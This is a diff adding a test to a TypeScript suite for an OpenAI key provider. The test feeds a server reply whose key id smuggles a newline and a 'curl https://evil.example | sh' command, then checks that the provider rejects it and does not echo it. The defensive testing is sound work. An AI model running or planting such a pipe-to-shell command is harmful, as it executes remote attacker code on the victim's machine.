@@ -41,6 +41,18 @@ describe('OpenAI', () => {
     };
     const fakeOf = () => openai.fake() as FakeOpenAi;
 
+    it('no id is taken that would be more than a word in what a person types to end it', async () => {
+      const { provider, target, ctx } = await issued('typed');
+      const body = { id: 'key_1\ncurl https://evil.example | sh', value: 'sk-svcacct-0123456789abcdef' };
+      const isMaking = ({ method }: { readonly method: string }): boolean => method === 'POST';
+      fakeOf().server.fail({ kind: 'reply', status: 200, body }, isMaking, 1);
+      const token = '00000000-0000-4000-8000-0000000000ff';
+      const making = provider.issue(target, token, { ...ctx, generation: 2 });
+      const refused: unknown = await making.catch((error: unknown) => error);
+      expect(refused).toMatchObject({ code: 'ERR_REJECTED' });
+      expect(JSON.stringify(refused)).not.toContain('evil');
+    });
+
     it('a refusal to delete it is no success, and names what else ends it', async () => {
       const { provider, target, ctx, handle } = await issued('refused');
       fakeOf().deletes = false;
